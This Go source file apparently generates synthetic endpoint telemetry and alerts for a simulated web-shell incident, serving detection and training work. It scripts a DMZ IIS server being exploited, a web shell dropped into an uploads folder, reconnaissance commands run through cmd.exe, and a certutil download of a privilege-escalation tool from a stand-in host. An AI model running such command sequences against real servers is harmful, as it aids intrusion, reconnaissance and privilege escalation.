package world

import "fmt"

// webShell is the fourth attack: a server in the DMZ is exploited, gets a web shell, and somebody looks around.
func (st *story) webShell() {
	st.attack = "webshell"
	w := st.w
	servers := w.ofKind(kindWeb)
	web := servers[len(servers)/2]
	iis := web.base.service
	const attacker = "192.0.2.201"
	first := st.t

	inbound := func(n int) {
		sc := st.scene(web)
		for range n {
			row := sc.row(tabDeviceNetworkEvents, "InboundConnectionAccepted", iis)
			row.conn = conn{remoteIP: attacker, remotePort: 30_000 + st.r.n(30_000), localIP: web.ip, localPort: 443, protocol: "Tcp", remoteType: "Public", localType: "Private"}
			sc.pause(0, 3)
		}
		st.done(sc)
	}
	inbound(24)
	sc := st.scene(web)
	probe := sc.spawn(iis, "cmd.exe", `"cmd.exe" /c whoami`)
	who := sc.spawn(probe, "whoami.exe", "whoami")
	shell := document(`C:\inetpub\wwwroot\serviceportal\uploads\ping.aspx`, st.r.next())
	shell.size = 1_418
	row := sc.touch("FileCreated", iis, shell)
	row.origin.sourceIP = attacker
	st.done(sc)
	st.alarm(alarmText{title: "Possible exploitation of a vulnerable internet-facing application",
		description: "The worker process of a web site started a command interpreter right after unusual requests from the internet.", category: "InitialAccess",
		severity: "high", service: "microsoftDefenderForEndpoint",
		detection: "microsoftDefenderForEndpoint", techniques: []string{"T1190"}}, first, evDevice(web), evProcess(iis), evProcess(probe), evProcess(who), evIP(attacker))
	st.alarm(alarmText{title: "Possible IIS web shell", description: "A script was written into a folder that the web server serves, by the web server itself.",
		category: "Persistence", severity: "medium", service: "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint",
		techniques: []string{"T1505.003"}}, first, evDevice(web), evProcess(iis), evFile(web, shell), evIP(attacker))

	begun := st.t
	var seen []*evidence
	for _, c := range [][2]string{{"whoami.exe", "whoami  /priv"}, {"ipconfig.exe", "ipconfig  /all"}, {"systeminfo.exe", "systeminfo"}, {"net.exe", "net  user"},
		{"net.exe", `net  localgroup administrators`}, {"tasklist.exe", "tasklist  /v"}, {"nltest.exe", "nltest  /dclist:" + w.net.dns}, {"nslookup.exe",
			"nslookup  -type=srv _ldap._tcp." + w.net.dns}} {
		st.wait(1, 4)
		inbound(1)
		sc = st.scene(web)
		cmd := sc.spawn(iis, "cmd.exe", `"cmd.exe" /c `+c[1])
		p := sc.spawn(cmd, c[0], c[1])
		if c[0] == "net.exe" {
			sc.spawn(p, "net1.exe", `C:\Windows\system32\net1`+c[1][3:])
		}
		seen = append(seen, evProcess(p))
		st.done(sc)
	}
	st.alarm(alarmText{title: "Suspicious processes indicative of a web shell",
		description: "The worker process of a web site ran a series of commands that explore the server and its network.", category: "Discovery", severity: "high",
		service: "microsoftDefenderForEndpoint", detection: "microsoftDefenderForEndpoint",
		techniques: []string{"T1505.003", "T1033", "T1016", "T1087.002"}}, begun, append([]*evidence{evDevice(web), evUser(&accAppPool), evProcess(iis)}, seen...)...)

	st.behave("Web server process explores its host", "The worker process of a web site ran commands that administrators use.", "WebServerDiscovery", "Discovery",
		[]string{"T1033"}, w.role("IT", 1), web, evDevice(web), evProcess(iis), seen[0])

	// A tool is fetched; antivirus takes it away.
	st.wait(4, 9)
	fetched := st.t
	tool := endpoint{"files.nistru-mirror.example", "192.0.2.204", 80}
	sc = st.scene(web)
	cmd := sc.spawn(iis, "cmd.exe", `"cmd.exe" /c certutil -urlcache -split -f http://`+tool.host+`/p64.exe C:\Windows\Temp\p64.exe`)
	cert := sc.spawn(cmd, "certutil.exe", `certutil  -urlcache -split -f http://`+tool.host+`/p64.exe C:\Windows\Temp\p64.exe`)
	sc.connect(cert, tool)
	bin := document(`C:\Windows\Temp\p64.exe`, st.r.next())
	bin.size = 57_344
	got := sc.touch("FileCreated", cert, bin)
	got.origin.url, got.origin.ip = "http://"+tool.host+"/p64.exe", tool.ip
	av := sc.event("AntivirusDetection", web.base.defender,
		`{"ThreatName":"HackTool:Win64/PotatoEsc.B","WasExecutingWhileDetected":false,"Action":"Quarantine","WasRemediated":true,"ReportSource":"Windows Defender Antivirus"}`)
	av.file = bin
	st.done(sc)
	st.alarm(alarmText{title: "'PotatoEsc' hacktool was prevented", description: "Antivirus removed a tool for raising privileges.", category: "Malware",
		severity: "medium", service: "microsoftDefenderForEndpoint", detection: "antivirus", techniques: []string{"T1105"}, threat: "HackTool:Win64/PotatoEsc.B",
		family: "PotatoEsc"},
		fetched, evDevice(web), evFile(web, bin).as("malicious", "prevented"), evProcess(cert), evURL("http://"+tool.host+"/p64.exe"), evIP(tool.ip))

	// The way inwards is closed.
	sc = st.scene(web)
	for _, d := range append(w.ofKind(kindDC), w.ofKind(kindSQL)...) {
		row := sc.row(tabDeviceNetworkEvents, "ConnectionFailed", iis)
		row.conn = conn{remoteIP: d.ip, remotePort: 445, localIP: web.ip, localPort: 49_152 + st.r.n(16_000), protocol: "Tcp", remoteType: "Private", localType: "Private"}
	}
	st.done(sc)
	st.name = fmt.Sprintf("Multi-stage incident involving Initial access & Persistence on one endpoint (%s)", lower(web.host))
}
